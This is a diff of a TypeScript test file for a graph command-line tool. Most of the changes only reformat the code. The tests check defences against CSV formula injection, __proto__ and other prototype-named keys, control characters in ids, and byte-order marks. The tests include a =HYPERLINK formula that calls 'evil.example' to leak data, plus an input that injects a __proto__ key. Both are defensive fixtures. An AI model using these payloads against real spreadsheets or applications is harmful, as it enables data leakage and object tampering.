@@ -10,7 +10,7 @@ import graphml from 'graphology-graphml';
 import { describe, expect, it } from 'vitest';
 import { MultiDirectedGraph } from '../../src/graph/graphology.js';
 import { validateGexf } from '../helpers/relaxng.js';
-import { cli, csvRecords, fixtureData, renameNodes, tempDir, writeGraph, type GraphData } from './helpers.js';
+import { cli, csvRecords, fixtureData, type GraphData, renameNodes, tempDir, writeGraph } from './helpers.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open")';
 
@@ -43,7 +43,8 @@ describe('CSV cells that would start a formula', () => {
     const edges = csvRecords(join(dir, 'safe', 'edges.csv'));
     expect(edges.some((e) => e['sentences:string[]']!.startsWith("'="))).toBe(true);
     // Every text cell of both files: none starts a formula.
-    for (const record of [...nodes, ...edges]) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    for (const record of [...nodes, ...edges])
+      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
     expect(nodes[0]!['x:double']).toBe('-12.5');
 
     expect((await cli('export', graph, '-o', join(dir, 'raw.csv'), '--raw-csv')).code).toBe(0);
@@ -53,7 +54,12 @@ describe('CSV cells that would start a formula', () => {
 });
 
 describe('keys that Object.prototype answers to', () => {
-  const names = { 'person:olaf-scholz': '__proto__', 'state:germany': 'constructor', 'state:france': 'hasOwnProperty', 'state:spain': 'toString' };
+  const names = {
+    'person:olaf-scholz': '__proto__',
+    'state:germany': 'constructor',
+    'state:france': 'hasOwnProperty',
+    'state:spain': 'toString',
+  };
 
   function protoGraph(dir: string): string {
     const data = renameNodes(fixtureData(), names);
@@ -68,7 +74,11 @@ describe('keys that Object.prototype answers to', () => {
     const stats = await cli('stats', graph, '--json');
     expect(stats.io.stderr).toBe('');
     expect(stats.code).toBe(0);
-    const summary = JSON.parse(stats.io.stdout) as { nodes: number; topByDegree: Array<{ id: string }>; communities: { count: number } };
+    const summary = JSON.parse(stats.io.stdout) as {
+      nodes: number;
+      topByDegree: Array<{ id: string }>;
+      communities: { count: number };
+    };
     expect(summary.nodes).toBe(13);
     expect(summary.topByDegree.map((e) => e.id)).toContain('constructor');
     expect(summary.communities.count).toBeGreaterThan(0);
@@ -102,17 +112,26 @@ describe('an attribute called __proto__', () => {
     const dir = tempDir();
     const file = join(dir, 'attr.json');
     // JSON.stringify cannot write an own __proto__ key from an object literal; the file is written as text.
-    writeFileSync(file, JSON.stringify(fixtureData()).replace('"label":"Olaf Scholz"', '"__proto__":{"label":"x"},"label":"Olaf Scholz"'));
+    writeFileSync(
+      file,
+      JSON.stringify(fixtureData()).replace('"label":"Olaf Scholz"', '"__proto__":{"label":"x"},"label":"Olaf Scholz"'),
+    );
     const run = await cli('stats', file);
     expect(run.code).toBe(1);
-    expect(run.io.stderr).toBe(`newsgraph: ${file}: node 0 ('person:olaf-scholz'): attribute name '__proto__' is not allowed (it cannot be kept as data)\n`);
+    expect(run.io.stderr).toBe(
+      `newsgraph: ${file}: node 0 ('person:olaf-scholz'): attribute name '__proto__' is not allowed (it cannot be kept as data)\n`,
+    );
   });
 });
 
 describe('control characters in keys', () => {
   it('give ids XML can carry, distinct, in GEXF (valid against the 1.3 grammar) and GraphML', async () => {
     const dir = tempDir();
-    const data = renameNodes(fixtureData(), { 'person:olaf-scholz': 'a\u0001b', 'state:germany': 'esc\u001b[31m', 'state:france': 'ab' });
+    const data = renameNodes(fixtureData(), {
+      'person:olaf-scholz': 'a\u0001b',
+      'state:germany': 'esc\u001b[31m',
+      'state:france': 'ab',
+    });
     data.edges[0]!.key = 'edge\u0002one';
     const graph = writeGraph(dir, 'ctrl.json', data);
     expect((await cli('export', graph, '-o', join(dir, 'c.gexf'))).code).toBe(0);
@@ -185,7 +204,10 @@ describe('messages and readers', () => {
   it('skip a UTF-8 BOM at the start of a graph file', async () => {
     const dir = tempDir();
     const file = join(dir, 'bom.json');
-    writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(writeGraph(dir, 'plain.json', fixtureData()))]));
+    writeFileSync(
+      file,
+      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(writeGraph(dir, 'plain.json', fixtureData()))]),
+    );
     const run = await cli('stats', file, '--json');
     expect(run.io.stderr).toBe('');
     expect((JSON.parse(run.io.stdout) as { nodes: number }).nodes).toBe(13);
